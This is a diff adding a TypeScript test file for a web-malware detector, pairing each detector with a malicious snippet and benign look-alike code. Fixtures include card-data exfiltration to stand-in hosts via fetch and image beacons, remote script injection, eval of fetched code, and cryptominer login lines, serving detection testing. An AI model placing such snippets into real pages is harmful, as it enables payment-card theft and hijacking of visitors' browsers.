@@ -1,0 +1,75 @@
+import { describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { inspectSource } from '../../src/analyze/pipeline.ts';
+import { detectors } from '../../src/analyze/detectors/index.ts';
+
+function detected(code: string): Map<string, string> {
+  const result = new Map<string, string>();
+  for (const finding of inspectSource(code).findings) if (!result.has(finding.detector)) result.set(finding.detector, finding.severity);
+  return result;
+}
+
+// [detector, code that shows the behaviour, similar code that must not trigger it]
+const table: [string, string, string][] = [
+  ['checkout-gating',
+    'if (location.href.indexOf("onepage") > -1) { run(); }',
+    'if (location.href.indexOf("blog") > -1) { run(); }'],
+  ['sensitive-field-names',
+    'var f = ["cc_number", "cc_cid", "cc_exp_month"];',
+    'var f = ["first_name", "newsletter"];'],
+  ['fake-payment-form',
+    'box.innerHTML = \'<input name="cardnumber"><input name="cvc"><input name="exp-date">\';',
+    'box.innerHTML = \'<input name="search"><input name="q">\';'],
+  ['anti-analysis',
+    'setInterval(function () { if (window.outerWidth - window.innerWidth > 160) { console.clear(); } }, 500);',
+    'var w = window.innerWidth - 20;'],
+  ['self-removal',
+    'document.currentScript.remove();',
+    'document.getElementById("banner").remove();'],
+  ['miner-signatures',
+    'var m = new CoinNest.Anonymous("SITEKEY", { throttle: 0.3 }); m.getHashesPerSecond();',
+    'var opts = { throttle: 200, threads: 2 };'],
+  ['stratum-protocol',
+    'ws.send(JSON.stringify({ method: "login", params: { login: wallet, pass: "x" } }));',
+    'ws.send(JSON.stringify({ method: "ping" }));'],
+  ['wasm-worker-pool',
+    'WebAssembly.instantiate(buf); for (var i = 0; i < navigator.hardwareConcurrency; i++) new Worker(URL.createObjectURL(blob));',
+    'new Worker("/decoder.js");'],
+  ['hidden-iframe',
+    'var f = document.createElement("iframe"); f.width = "0"; f.src = "https://ek.example/land"; document.body.appendChild(f);',
+    'var f = document.createElement("iframe"); f.width = "600"; f.src = "https://maps.example/embed"; document.body.appendChild(f);'],
+  ['dynamic-code-execution',
+    'var x = new XMLHttpRequest(); x.onload = function () { eval(x.responseText); };',
+    'setTimeout(function () { tick(); }, 10);'],
+  ['remote-script-injection',
+    'var s = document.createElement("script"); s.src = "https://cdn-evil.example/s.js"; document.head.appendChild(s);',
+    'var s = document.createElement("script"); s.src = "/static/app.js"; document.head.appendChild(s);'],
+  ['drive-by-redirect',
+    'if (document.referrer.indexOf("google") > -1 && !document.cookie.match(/seen/)) { window.location.href = "https://prize.example/win"; }',
+    'window.location.href = "/login";'],
+  ['fake-update-lure',
+    'el.textContent = "Your Chrome is out of date. Install the latest update to continue.";',
+    'el.textContent = "Your cart was updated.";'],
+  ['form-data-exfiltration',
+    'fetch("https://e.example/c", { method: "POST", body: document.getElementById("cc_number").value });',
+    'fetch("https://e.example/c", { method: "POST", body: document.title });'],
+  ['exfiltration-trigger',
+    'btn.addEventListener("click", function () { new Image().src = "https://e.example/p?c=" + document.getElementById("cvv").value; });',
+    'new Image().src = "https://e.example/p?c=" + document.getElementById("cvv").value;'],
+  ['storage-staging',
+    'localStorage.setItem("k", document.getElementById("cc_number").value); setTimeout(function () { fetch("https://e.example/" + localStorage.getItem("k")); }, 9000);',
+    'localStorage.setItem("theme", "dark"); setTimeout(function () { fetch("https://e.example/" + localStorage.getItem("k")); }, 9000);'],
+];
+
+describe('detectors', () => {
+  test('every registered detector has a table row', () => {
+    assert.deepEqual(new Set(table.map(([id]) => id)), new Set(detectors.map((detector) => detector.meta.id)));
+  });
+  for (const [id, positive, negative] of table) {
+    test(`${id} reports the behaviour`, () => assert.ok(detected(positive).has(id), `findings: ${[...detected(positive).keys()].join(', ')}`));
+    test(`${id} stays quiet on look-alike benign code`, () => assert.ok(!detected(negative).has(id)));
+  }
+  test('a hidden frame without a named host is only a weak signal', () => {
+    assert.equal(detected('var f = document.createElement("iframe"); f.style.display = "none"; document.body.appendChild(f);').get('hidden-iframe'), 'low');
+  });
+});
